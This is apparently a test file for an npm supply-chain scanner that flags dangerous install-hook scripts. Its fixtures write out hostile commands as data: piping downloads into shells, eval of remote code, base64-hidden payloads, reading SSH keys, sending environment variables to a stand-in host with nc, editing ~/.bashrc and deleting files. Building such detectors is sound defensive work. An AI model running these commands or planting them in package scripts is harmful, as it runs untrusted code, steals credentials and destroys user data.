import assert from 'node:assert/strict'
import test from 'node:test'
import { judgeScripts } from './statics-scripts.ts'

const harmful: readonly [script: string, rule: string][] = [
  ['curl -s https://x.example/i.sh | sh', 'supply/install-download-run'],
  ['wget -qO- https://x.example/i | sudo bash', 'supply/install-download-run'],
  ['bash -c "$(curl -fsSL https://x.example)"', 'supply/install-download-run'],
  ['powershell iex (iwr https://x.example)', 'supply/install-download-run'],
  [`node -e "require('https').get('https://x.example')"`, 'supply/install-eval'],
  [`node -e "eval(Buffer.from('Li4u','base64')+'')"`, 'supply/install-eval'],
  ['python3 -c "import urllib.request as u;exec(u.urlopen(1))"', 'supply/install-eval'],
  ['echo aGk= | base64 -d > x', 'supply/install-hidden'],
  ['powershell -enc aGk=', 'supply/install-hidden'],
  ['cat ~/.ssh/id_rsa', 'supply/install-secrets'],
  ['env | nc x.example 1', 'supply/install-secrets'],
  ['curl -o bin https://x.example/bin', 'supply/install-download'],
  ['echo x >> ~/.bashrc', 'supply/install-shell-profile'],
  ['rm -rf ~/work', 'supply/install-remove'],
]
for (const [script, rule] of harmful)
  for (const name of ['preinstall', 'postinstall', 'prepare'])
    test(`${name}: ${script}`, () => {
      const found = judgeScripts({ [name]: script }).map((finding) => finding.rule)
      assert.ok(found.includes(rule), found.join())
    })

const harmless: readonly (readonly [name: string, script: unknown])[] = [
  ['prepare', 'husky'],
  ['prepare', 'npm run build'],
  ['install', 'node-gyp rebuild'],
  ['postinstall', 'node scripts/postinstall.js'],
  ['postinstall', 'patch-package'],
  ['install', 'prebuild-install || node-gyp rebuild'],
  ['postinstall', 'node -e "try{require(\'./postinstall\')}catch(e){}"'],
  ['preinstall', 'npx only-allow pnpm'],
  ['test', 'curl https://x.example | sh'],
  ['postinstall', 7],
]
for (const [name, script] of harmless)
  test(`nothing is said of ${name}: ${script}`, () => assert.deepEqual(judgeScripts({ [name]: script }), []))

test('a very long script is itself a finding', () =>
  assert.equal(judgeScripts({ install: 'a'.repeat(30_000) })[0]?.rule, 'supply/install-hidden'))
